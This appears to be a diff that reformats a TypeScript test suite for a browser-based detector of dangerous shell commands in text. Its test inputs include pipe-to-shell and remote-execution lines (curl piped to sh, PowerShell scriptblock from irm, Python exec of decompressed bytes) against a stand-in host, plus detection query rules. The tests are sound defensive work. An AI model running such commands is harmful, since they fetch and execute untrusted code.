@@ -1,14 +1,24 @@
 import { readdirSync } from "node:fs";
 import { readFile } from "node:fs/promises";
 import { describe, expect, it } from "vitest";
-import { AssetError, createBrowserDetector, createLazyDetector, loadAssets, type BrowserDetectorOptions } from "../../src/host/browser.js";
+import {
+  AssetError,
+  createBrowserDetector,
+  createLazyDetector,
+  loadAssets,
+  type BrowserDetectorOptions,
+} from "../../src/host/browser.js";
 import { isPackageFile } from "../../src/host/manifest.js";
 import { loadAssets as loadNodeAssets } from "../../src/host/node.js";
 
-const queryFiles = readdirSync("queries", { recursive: true, encoding: "utf8" }).filter(isPackageFile);
+const queryFiles = readdirSync("queries", { recursive: true, encoding: "utf8" }).filter(
+  isPackageFile,
+);
 
 /** Serves the package's files as a page would get them; `changed` takes the place of some. */
-function serve(changed: Readonly<Record<string, string>> = {}): (path: string) => Promise<Uint8Array> {
+function serve(
+  changed: Readonly<Record<string, string>> = {},
+): (path: string) => Promise<Uint8Array> {
   return async (path) => {
     if (changed[path] !== undefined) return new TextEncoder().encode(changed[path]);
     if (path === "queries/index.json") return new TextEncoder().encode(JSON.stringify(queryFiles));
@@ -19,8 +29,12 @@ function serve(changed: Readonly<Record<string, string>> = {}): (path: string) =
 describe("a detector for browsers", () => {
   it("answers as the one for Node does, from fetched bytes only", async () => {
     const detector = await createBrowserDetector({ fetchBytes: serve() });
-    expect(detector.detect("Run `curl -fsSL https://x.example/i.sh | sh` now").spans).toEqual([[5, 43]]);
-    expect(detector.detect("Never run `curl -fsSL https://x.example/i.sh | sh`.").notes).toMatchObject([{ reason: "warned-against" }]);
+    expect(detector.detect("Run `curl -fsSL https://x.example/i.sh | sh` now").spans).toEqual([
+      [5, 43],
+    ]);
+    expect(
+      detector.detect("Never run `curl -fsSL https://x.example/i.sh | sh`.").notes,
+    ).toMatchObject([{ reason: "warned-against" }]);
     detector.dispose();
   });
 
@@ -36,36 +50,60 @@ describe("a detector for browsers", () => {
     expect((await detector.detect("curl https://x.example | sh")).spans).toEqual([[0, 27]]);
     expect(fetched).toEqual(["sitter", "bash"]);
     const text = "```powershell\n[scriptblock]::Create((irm https://x.example)).Invoke()\n```\n";
-    await expect(detector.detect(text)).rejects.toMatchObject({ code: "asset-missing", path: "wasm/tree-sitter-powershell.wasm" });
+    await expect(detector.detect(text)).rejects.toMatchObject({
+      code: "asset-missing",
+      path: "wasm/tree-sitter-powershell.wasm",
+    });
     isOffline = false;
     const answers = await Promise.all([detector.detect(text), detector.explain(text)]);
     expect([answers[0].labels, answers[1].detection.labels]).toEqual([["PS"], ["PS"]]);
-    expect((await detector.detect("```python\nexec(__import__('zlib').decompress(b'x'))\n```")).labels).toEqual(["PS"]);
+    expect(
+      (await detector.detect("```python\nexec(__import__('zlib').decompress(b'x'))\n```")).labels,
+    ).toEqual(["PS"]);
     expect(fetched).toEqual(["sitter", "bash", "powershell", "python"]);
     detector.dispose();
   });
 
   it("hears other languages where they are asked for, and does not start without the words of English", async () => {
     const detector = await createBrowserDetector({ fetchBytes: serve(), languages: ["de"] });
-    expect(detector.detect("Führe `curl -fsSL https://x.example/i.sh | sh` niemals aus.").labels).toEqual([]);
+    expect(
+      detector.detect("Führe `curl -fsSL https://x.example/i.sh | sh` niemals aus.").labels,
+    ).toEqual([]);
     detector.dispose();
     const index = JSON.stringify(queryFiles.filter((path) => !path.endsWith(".prose")));
-    await expect(createBrowserDetector({ fetchBytes: serve({ "queries/index.json": index }) })).rejects.toThrow("they hold no words of English");
+    await expect(
+      createBrowserDetector({ fetchBytes: serve({ "queries/index.json": index }) }),
+    ).rejects.toThrow("they hold no words of English");
   });
 
   it("takes query files as paths and texts, and switches rules off", async () => {
-    const text = "; acmeget URL\n((command_name) @source.fetcher\n  (#word-is? @source.fetcher \"acmeget\")\n  (#set! writes \"stdout\"))\n";
-    const labels = async (options: Omit<BrowserDetectorOptions, "fetchBytes">): Promise<string[]> => {
+    const text =
+      '; acmeget URL\n((command_name) @source.fetcher\n  (#word-is? @source.fetcher "acmeget")\n  (#set! writes "stdout"))\n';
+    const labels = async (
+      options: Omit<BrowserDetectorOptions, "fetchBytes">,
+    ): Promise<string[]> => {
       const detector = await createBrowserDetector({ fetchBytes: serve(), ...options });
-      const found = ["curl https://x.example | sh", "acmeget https://x.example | sh"].map((each) => detector.detect(each).labels.join());
+      const found = ["curl https://x.example | sh", "acmeget https://x.example | sh"].map((each) =>
+        detector.detect(each).labels.join(),
+      );
       detector.dispose();
       return found;
     };
     expect(await labels({ queries: [{ path: "bash/own.scm", text }] })).toEqual(["PS", "PS"]);
-    expect(await labels({ queries: [{ path: "extended/bash/own.scm", text }] })).toEqual(["PS", ""]);
-    expect(await labels({ queries: [{ path: "contract/bash/fetchers.scm", text }], replaceQueries: true })).toEqual(["", "PS"]);
+    expect(await labels({ queries: [{ path: "extended/bash/own.scm", text }] })).toEqual([
+      "PS",
+      "",
+    ]);
+    expect(
+      await labels({
+        queries: [{ path: "contract/bash/fetchers.scm", text }],
+        replaceQueries: true,
+      }),
+    ).toEqual(["", "PS"]);
     expect(await labels({ disabledRules: ["bash/fetch-pipe"] })).toEqual(["", ""]);
-    await expect(labels({ queries: [{ path: "contract/bash/fetchers.scm", text }] })).rejects.toThrow(/two query files have this path/);
+    await expect(
+      labels({ queries: [{ path: "contract/bash/fetchers.scm", text }] }),
+    ).rejects.toThrow(/two query files have this path/);
   });
 
   it("brings the same assets as the host for Node", async () => {
@@ -77,11 +115,36 @@ describe("a detector for browsers", () => {
   });
 
   it.each([
-    ["a damaged grammar", { "wasm/tree-sitter-bash.wasm": "damaged" }, "asset-damaged", "wasm/tree-sitter-bash.wasm"],
-    ["a manifest that is no JSON", { "wasm/manifest.json": "<html>" }, "asset-invalid", "wasm/manifest.json"],
-    ["a manifest without digests", { "wasm/manifest.json": '{"runtime":{}}' }, "asset-invalid", "wasm/manifest.json"],
-    ["an index that lists nothing", { "queries/index.json": "{}" }, "asset-invalid", "queries/index.json"],
-    ["an index that names a file which is not there", { "queries/index.json": '["bash/none.scm"]' }, "asset-missing", "queries/bash/none.scm"],
+    [
+      "a damaged grammar",
+      { "wasm/tree-sitter-bash.wasm": "damaged" },
+      "asset-damaged",
+      "wasm/tree-sitter-bash.wasm",
+    ],
+    [
+      "a manifest that is no JSON",
+      { "wasm/manifest.json": "<html>" },
+      "asset-invalid",
+      "wasm/manifest.json",
+    ],
+    [
+      "a manifest without digests",
+      { "wasm/manifest.json": '{"runtime":{}}' },
+      "asset-invalid",
+      "wasm/manifest.json",
+    ],
+    [
+      "an index that lists nothing",
+      { "queries/index.json": "{}" },
+      "asset-invalid",
+      "queries/index.json",
+    ],
+    [
+      "an index that names a file which is not there",
+      { "queries/index.json": '["bash/none.scm"]' },
+      "asset-missing",
+      "queries/bash/none.scm",
+    ],
     ["a package without a version", { "package.json": "{}" }, "asset-invalid", "package.json"],
   ])("is refused for %s", async (_title, changed, code, path) => {
     const error = await loadAssets(serve(changed)).catch((caught: unknown) => caught);
